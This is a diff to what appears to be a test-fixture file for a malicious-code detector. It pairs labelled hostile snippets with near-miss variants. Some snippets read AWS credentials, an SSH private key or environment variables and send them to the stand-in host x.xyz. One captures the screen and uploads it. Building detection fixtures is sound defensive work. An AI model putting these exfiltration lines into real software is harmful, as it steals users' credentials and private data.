@@ -635,6 +635,9 @@ pair("chained.js", "code.sends-secrets", "bad", 'const e = fs.readFileSync(home 
 PADDING = "x(" + "a,b," * 2000 + "c);\n"
 pair("padded.js", "code.sends-secrets", "bad", PADDING + 'const found = require("fs").readFileSync(home + "/.aws/credentials");\nrequire("https").get("https://x.xyz/?" + found)\n',
      PADDING + 'const e = require("fs").readFileSync(home + "/.aws/credentials");\nrequire("https").get("https://x.xyz/?" + n)\n')
+pair("callback.js", "code.sends-secrets", "bad", 'const e = fs.readFileSync(home + "/.aws/credentials");\nhttps.request("https://x.xyz/?" + e, (r) => { log(r); });\n',
+     'const e = fs.readFileSync(home + "/.aws/credentials");\nhttps.request("https://x.xyz/", (r) => { log(r, e); });\nhttp.request(u, function (r) { keep(r, e); }.bind(e));\n')
+pair("bridge.js", "code.sends-secrets", "bad", 'const e = process.env;\nclient.request("POST", { e });\n', 'const e = process.env;\nclient.request("wallet_names", { e });\n')
 pair("socket.go", "code.sends-secrets", "bad", 'package a\nfunc f() {\n\td, _ := os.ReadFile("/var/lib/.ssh/id_rsa")\n\tc, _ := net.Dial("tcp", "x.xyz:1")\n\tc.Write(d)\n}\n',
      'package a\nfunc f() {\n\td, _ := os.ReadFile("/var/lib/.ssh/id_rsa.pub")\n\tc, _ := net.Dial("tcp", host)\n\tc.Write(d)\n}\n')
 pair("screen.py", "code.spies", "suspicious", "import requests\nfrom PIL import ImageGrab\nimage = ImageGrab.grab()\nrequests.post(url, files={'f': image.tobytes()})\n", "from PIL import ImageGrab\nimage = ImageGrab.grab()\nimage.save('a.png')\n")
